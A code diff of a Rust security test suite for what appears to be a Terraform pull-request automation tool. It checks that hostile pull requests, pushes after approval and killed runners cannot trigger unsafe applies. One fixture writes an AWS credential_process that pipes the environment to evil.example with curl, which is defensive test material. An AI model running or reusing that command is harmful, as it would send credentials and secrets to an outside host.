@@ -19,9 +19,6 @@ const LAPSE: Duration = Duration::from_secs(130);
 /// The longest that a step may take to begin.
 const PATIENCE: Duration = Duration::from_secs(60);
 
-/// Records read from the log at once.
-const PAGE: usize = 100_000;
-
 /// Plays all four scenes; fails when one of them works.
 ///
 /// # Errors
@@ -54,15 +51,15 @@ async fn own_approval(world: &World, narrator: &Narrator) -> Result<()> {
 
 /// A pull request whose provider would run a program already at `terraform init`.
 async fn hostile_provider(world: &World, narrator: &Narrator) -> Result<()> {
-    let main = stack(world, "evil", "provider \"aws\" {\n  shared_config_files = [\"./aws\"]\n}\n");
+    let main = world.stack_by_hand("evil", "provider \"aws\" {\n  shared_config_files = [\"./aws\"]\n}\n");
     let aws = "[default]\ncredential_process = sh -c 'env | curl --data-binary @- https://evil.example'\n";
     let files = [("live/dev/evil/main.tf", main.as_str()), ("live/dev/evil/aws", aws)];
-    let before = events(world, "run-requested").await?;
+    let before = world.recorded("run-requested").await?;
     world.alice().pushes(REPOSITORY, "evil", &files, "a provider").await?;
     let number = world.alice().opens_pull(REPOSITORY, "evil", "main", "A provider", "").await?;
     world.settle().await?;
     let plan = world.forge.check(REPOSITORY, &format!("#{number}"), "tfpilot/plan")?;
-    let runs = events(world, "run-requested").await? - before;
+    let runs = world.recorded("run-requested").await? - before;
     ensure!(plan.title.contains("shared_config_files") && runs == 0, "{runs} runs: {}", plan.title);
     narrator.step(
         2,
@@ -78,7 +75,7 @@ async fn push_after_review(world: &World, narrator: &Narrator) -> Result<()> {
     let number = by_hand(world, "quiet", &note("hello")).await?;
     world.bob().approves(REPOSITORY, number).await?;
     world.settle().await?;
-    let changed = stack(world, "quiet", &note("something else"));
+    let changed = world.stack_by_hand("quiet", &note("something else"));
     world
         .alice()
         .pushes(REPOSITORY, "quiet", &[("live/dev/quiet/main.tf", changed.as_str())], "louder")
@@ -99,10 +96,10 @@ async fn killed_runner(world: &mut World, narrator: &Narrator) -> Result<()> {
     let number = by_hand(world, "many", &body).await?;
     world.bob().approves(REPOSITORY, number).await?;
     world.settle().await?;
-    let journaled = events(world, "journaled").await?;
+    let journaled = world.recorded("journaled").await?;
     world.alice().comments(REPOSITORY, number, "/tfpilot apply").await?;
     let deadline = Instant::now() + PATIENCE;
-    while events(world, "journaled").await? < journaled + 3 {
+    while world.recorded("journaled").await? < journaled + 3 {
         ensure!(Instant::now() < deadline, "no apply began:\n{}", world.forge.thread(REPOSITORY, number)?);
         tokio::time::sleep(Duration::from_millis(1)).await;
     }
@@ -122,10 +119,10 @@ async fn killed_runner(world: &mut World, narrator: &Narrator) -> Result<()> {
     {
         narrator.line(&format!("    {line}"));
     }
-    let issued = events(world, "ticket-issued").await?;
+    let issued = world.recorded("ticket-issued").await?;
     world.advance(Duration::from_secs(24 * 3_600));
     world.settle().await?;
-    ensure!(events(world, "ticket-issued").await? == issued, "something was applied again");
+    ensure!(world.recorded("ticket-issued").await? == issued, "something was applied again");
     narrator.line("    A day later: nothing was repeated.");
     Ok(())
 }
@@ -134,14 +131,9 @@ fn note(text: &str) -> String {
     format!("resource \"terraform_data\" \"note\" {{\n  input = \"{text}\"\n}}\n")
 }
 
-fn stack(world: &World, name: &str, body: &str) -> String {
-    let state = world.dir().join(format!("state/live/dev/{name}.tfstate"));
-    format!("terraform {{\n  backend \"local\" {{\n    path = \"{}\"\n  }}\n}}\n\n{body}", state.display())
-}
-
 /// A pull request by alice with a stack of its own, planned.
 async fn by_hand(world: &World, name: &str, body: &str) -> Result<u64> {
-    let (main, path) = (stack(world, name, body), format!("live/dev/{name}/main.tf"));
+    let (main, path) = (world.stack_by_hand(name, body), format!("live/dev/{name}/main.tf"));
     world.alice().pushes(REPOSITORY, name, &[(path.as_str(), main.as_str())], name).await?;
     let number = world.alice().opens_pull(REPOSITORY, name, "main", name, "").await?;
     world.settle().await?;
@@ -167,11 +159,4 @@ fn lines(world: &World, number: u64, what: &str) -> Result<Vec<String>> {
 /// The first line of that comment.
 fn said(world: &World, number: u64, what: &str) -> Result<String> {
     lines(world, number, what)?.into_iter().next().context("an empty comment")
-}
-
-/// Events of a kind so far.
-async fn events(world: &World, kind: &str) -> Result<usize> {
-    let tag = format!("\"event\":\"{kind}\"");
-    let records = world.app().store().log(0, PAGE).await?;
-    Ok(records.iter().filter(|record| String::from_utf8_lossy(&record.body).contains(&tag)).count())
 }
